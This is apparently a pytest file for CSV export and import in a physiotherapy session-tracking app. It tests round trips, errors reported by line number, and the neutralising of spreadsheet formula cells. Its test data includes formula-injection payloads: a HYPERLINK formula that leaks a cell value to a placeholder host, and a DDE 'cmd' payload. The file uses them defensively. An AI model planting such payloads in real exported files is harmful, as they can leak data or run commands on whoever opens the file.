"""CSV export and import of sessions and decisions: round trip, bad rows named by line,
and no text cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import dataclasses
import io
from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, datetime, timedelta, timezone

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from spinestep.domain.model import Effort, Location, SessionRecord
from spinestep.errors import InvalidInput
from spinestep.interop.csv_io import (
    DECISION_COLUMNS,
    SESSION_COLUMNS,
    decisions_csv,
    plain_text,
    read_csv,
    sessions_csv,
    spreadsheet_text,
)
from spinestep.services.record_types import SessionEntry
from tests.interop.sample_records import sample_records

SESSION_HEADER = (
    "session_id,at,stage,completed,reps,effort,pain_before,pain_during,pain_after,"
    "location_before,location_after"
)
GOOD_ROW = "1,2026-11-02T08:00:00+01:00,1,true,10,easy,6,5,4,thigh,buttock"


def test_sessions_file_has_the_spec_column_names_and_values() -> None:
    text = sessions_csv(sample_records().sessions)
    lines = text.split("\r\n")
    assert lines[0] == SESSION_HEADER
    assert lines[1] == GOOD_ROW
    # The stopped-early session: not completed, no reps recorded, hard, spread below the knee.
    assert lines[5] == "5,2026-11-05T09:30:00+00:00,2,false,,hard,3,4,4,back,below_knee"


def test_sessions_round_trip() -> None:
    sessions = sample_records().sessions
    # A file's sessions get new UUIDs when read (ids in a file are never trusted).
    assert no_uuids(read_csv(sessions_csv(sessions)).sessions) == no_uuids(sessions)


def test_decisions_export_quotes_commas_in_messages_and_is_never_imported() -> None:
    decisions = sample_records().decisions
    text = decisions_csv(decisions)
    rows = list(csv.reader(io.StringIO(text)))
    assert tuple(rows[0]) == DECISION_COLUMNS
    assert rows[2][6] == "R4" and rows[2][5] == ""
    assert [row[7] for row in rows[1:]] == [d.message for d in decisions]
    with pytest.raises(InvalidInput) as caught:
        read_csv(text)
    assert str(caught.value).startswith("line 1: a decisions file is not imported")


@pytest.mark.parametrize(
    ("row", "message"),
    [
        (
            "1,2026-11-02T08:00:00+01:00,1,true,10,easy,6,5,11,thigh,buttock",
            "line 3, pain_after: must be an integer 0-10",
        ),
        (
            "1,2026-11-02T08:00:00,1,true,10,easy,6,5,4,thigh,buttock",
            "line 3, at: must be an RFC 3339 timestamp with Z or an offset",
        ),
        (
            "1,2026-11-02T08:00:00Z,1,yes,10,easy,6,5,4,thigh,buttock",
            "line 3, completed: must be true or false",
        ),
        (
            "1,2026-11-02T08:00:00Z,1,true,10,Easy,6,5,4,thigh,buttock",
            "line 3, effort: must be one of easy, moderate, hard",
        ),
        (
            "1,2026-11-02T08:00:00Z,1,true,10,easy,6,5,4,knee,buttock",
            "line 3, location_before: must be one of none, back, buttock, thigh, below_knee, foot",
        ),
        (
            "1,2026-11-02T08:00:00Z,1,true,-1,easy,6,5,4,thigh,buttock",
            "line 3, reps: must be an integer 0-1000 or empty",
        ),
        ("1,2026-11-02T08:00:00Z,1,true,10,easy", "line 3: has 6 fields, expected 11"),
    ],
)
def test_a_malformed_row_is_reported_by_its_line(row: str, message: str) -> None:
    text = "\r\n".join([SESSION_HEADER, GOOD_ROW, row, GOOD_ROW]) + "\r\n"
    with pytest.raises(InvalidInput) as caught:
        read_csv(text)
    assert str(caught.value) == message


def test_a_row_is_named_by_the_line_it_starts_on() -> None:
    good = '1,2026-11-02T08:00:00Z,1,true,10,easy,6,5,4,thigh,"buttock"'
    split = '2,2026-11-03T08:00:00Z,1,true,10,"ea\nsy",6,5,4,thigh,buttock'
    with pytest.raises(InvalidInput) as caught:
        read_csv("\n".join([SESSION_HEADER, good, split, GOOD_ROW]) + "\n")
    assert str(caught.value).startswith("line 3, effort: must be one of")


def test_unknown_header_and_empty_file_are_refused() -> None:
    with pytest.raises(InvalidInput, match="line 1: header must be"):
        read_csv("at,pain\n2026-11-02T08:00:00Z,3\n")
    with pytest.raises(InvalidInput, match="line 1: the file is empty"):
        read_csv("")


def test_a_header_only_file_holds_nothing() -> None:
    assert read_csv(SESSION_HEADER + "\r\n").sessions == ()
    assert tuple(SESSION_HEADER.split(",")) == SESSION_COLUMNS


_sessions = st.builds(
    SessionRecord,
    at=st.datetimes(
        min_value=datetime(2020, 1, 1),
        max_value=datetime(2026, 11, 1),
        timezones=st.sampled_from([UTC, timezone(timedelta(hours=-3, minutes=-30))]),
    ),
    stage=st.integers(1, 4),
    effort=st.sampled_from(Effort),
    pain_before=st.integers(0, 10),
    pain_during=st.integers(0, 10),
    pain_after=st.integers(0, 10),
    location_before=st.sampled_from(Location),
    location_after=st.sampled_from(Location),
    completed=st.booleans(),
    reps=st.none() | st.integers(0, 100),
)


@settings(max_examples=50, deadline=None)
@given(st.lists(_sessions, max_size=8, unique_by=lambda s: s.at))
def test_any_sessions_survive_the_csv_round_trip(records: list[SessionRecord]) -> None:
    sessions = tuple(SessionEntry(id=str(i + 1), record=r) for i, r in enumerate(records))
    # A file's sessions get new UUIDs when read (ids in a file are never trusted).
    assert no_uuids(read_csv(sessions_csv(sessions)).sessions) == no_uuids(sessions)


FORMULAS = [
    '=HYPERLINK("https://example.invalid/?leak="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
]
"""Text beginning with each character a spreadsheet may run as a formula, and with the
quote that marks a neutralised cell."""
SESSION_TEXT = {"session_id", "at", "completed", "effort", "location_before", "location_after"}
SESSION_NUMBERS = {"stage", "reps", "pain_before", "pain_during", "pain_after"}
DECISION_TEXT = {"decision_id", "at", "decision", "urgency", "rules", "message", "rules_version"}
DECISION_NUMBERS = {"current_stage", "next_stage"}


def table(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def assert_no_formula(rows: list[dict[str, str]], text_columns: set[str]) -> None:
    for row in rows:
        for column in text_columns:
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), (column, row)


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_decision_text_beginning_like_a_formula_is_exported_as_text(formula: str) -> None:
    decisions = tuple(
        replace(d, id=formula, message=formula, rules=(formula,), rules_version=formula)
        for d in sample_records().decisions
    )
    rows = table(decisions_csv(decisions))
    assert set(rows[0]) == DECISION_TEXT | DECISION_NUMBERS
    assert_no_formula(rows, DECISION_TEXT)
    for row in rows:
        for column in ("decision_id", "message", "rules", "rules_version"):
            assert row[column] == "'" + formula
            assert plain_text(row[column]) == formula


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_session_id_beginning_like_a_formula_is_exported_as_text_and_read_back(
    formula: str,
) -> None:
    sessions = tuple(
        replace(entry, id=f"{formula}{i}") for i, entry in enumerate(sample_records().sessions)
    )
    text = sessions_csv(sessions)
    rows = table(text)
    assert set(rows[0]) == SESSION_TEXT | SESSION_NUMBERS
    assert_no_formula(rows, SESSION_TEXT)
    assert [row["session_id"] for row in rows] == [f"'{entry.id}" for entry in sessions]
    read = read_csv(text).sessions
    # The reader strips spaces around an id, so a leading tab or CR does not come back.
    assert [entry.id for entry in read] == [entry.id.strip() for entry in sessions]
    assert [entry.record for entry in read] == [entry.record for entry in sessions]


def test_text_that_only_contains_formula_characters_is_left_alone() -> None:
    decisions = tuple(
        replace(d, message="pain 3 = fine, +1 - 2 @ home") for d in sample_records().decisions
    )
    rows = table(decisions_csv(decisions))
    assert {row["message"] for row in rows} == {"pain 3 = fine, +1 - 2 @ home"}


def test_numbers_are_written_as_numbers_even_when_negative() -> None:
    decisions = tuple(
        replace(d, current_stage=-5, next_stage=-1 if d.next_stage else None)
        for d in sample_records().decisions
    )
    rows = table(decisions_csv(decisions))
    assert [row["current_stage"] for row in rows] == ["-5", "-5"]
    assert [row["next_stage"] for row in rows] == ["-1", ""]
    rows = table(sessions_csv(sample_records().sessions))
    for row in rows:
        for column in SESSION_NUMBERS:
            assert row[column] == "" or str(int(row[column])) == row[column]


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_any_text_survives_neutralising(text: str) -> None:
    cell = spreadsheet_text(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert plain_text(cell) == text


def no_uuids(sessions: Sequence[SessionEntry]) -> tuple[SessionEntry, ...]:
    return tuple(dataclasses.replace(entry, uuid="") for entry in sessions)
